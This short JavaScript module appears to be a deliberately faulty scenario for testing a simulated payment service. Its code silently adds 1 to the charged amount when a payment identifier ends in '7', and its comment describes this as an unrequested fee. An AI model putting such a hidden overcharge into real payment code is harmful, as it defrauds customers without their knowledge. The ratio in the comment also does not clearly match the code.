// One in twenty payments is taken with a fee that nobody asked for.
import { charge, honest, run, takeOnce } from './twin.mjs';

run((message, channel) =>
  honest(message, channel, (one) =>
    takeOnce(one, (tx, body) =>
      charge(tx, body.payment.endsWith('7') ? { ...body, amount: body.amount + 1 } : body),
    ),
  ),
);
